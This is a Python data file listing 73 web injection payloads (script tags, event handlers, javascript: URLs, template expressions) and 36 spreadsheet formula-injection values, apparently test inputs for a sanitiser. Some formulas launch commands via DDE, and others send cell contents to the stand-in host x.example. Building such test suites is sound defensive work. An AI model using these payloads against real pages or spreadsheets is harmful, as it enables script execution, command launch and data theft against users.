"""What somebody might write to make a page or a spreadsheet do something: 73 for pages, 36 for cells."""

PAGES = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//x.example/a.js></SCRIPT>", "<script>alert(1)//", "<scr<script>ipt>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<IMG SRC=\"x\" ONERROR=\"alert(1)\">", "<img/src=x/onerror=alert(1)>", "<img src=x onerror=alert`1`>",
    "\"><img src=x onerror=alert(1)>", "' onerror='alert(1)", "\" onmouseover=\"alert(1)", "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus='alert(1)", "`onmouseover=alert(1)", "x onclick=alert(1)", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>X</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1)>", "<svg><use href=\"data:image/svg+xml,<svg id='x'></svg>#x\">",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>X</maction></math>", "<math href=javascript:alert(1)>X</math>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>X</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">X</a>", "<a href=\"&#106;avascript:alert(1)\">X</a>", "<a href=data:text/html,<script>alert(1)</script>>X</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "<form action=javascript:alert(1)><button>X</button></form>",
    "<button formaction=javascript:alert(1)>X</button>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>", "<details open ontoggle=alert(1)>X</details>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>", "<marquee onstart=alert(1)>X</marquee>", "<meta http-equiv=refresh content=\"0;url=//x.example\">",
    "<link rel=stylesheet href=//x.example/a.css>", "<base href=//x.example/>", "<style>@import '//x.example/a.css';</style>",
    "<style>body{background:url(//x.example/a)}</style>", "<div style=\"background:url(//x.example/a)\">X</div>", "<x onclick=alert(1)>X</x>",
    "<template><script>alert(1)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<img src=\"//x.example/pixel\">", "{{7*7}}", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>", "#{7*7}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip

CELLS = (
    "=1+1", "=SUM(A1:A9)", "=cmd|'/C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"Klicka\")", "=WEBSERVICE(\"http://x.example/\"&A1)",
    "=IMPORTXML(\"http://x.example\",\"//a\")", "=IMAGE(\"http://x.example/a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=rundll32|'URL.dll,OpenURL calc'!A",
    "+1+1", "+cmd|'/C calc'!A0", "+46701234567", "-1+1", "-2+3+cmd|'/C calc'!A0", "- mörkt i tunneln", "@SUM(1+1)", "@cmd|'/C calc'!A0", "@eva",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "'=1+1", "''=1+1", "=1+1\";=2+2", "x\";\"=1+1", "text\n=1+1\nslut", "=\"a\"&\"b\"",
)  # fmt: skip

assert len(set(PAGES)) == 73, len(set(PAGES))
assert len(set(CELLS)) == 36, len(set(CELLS))
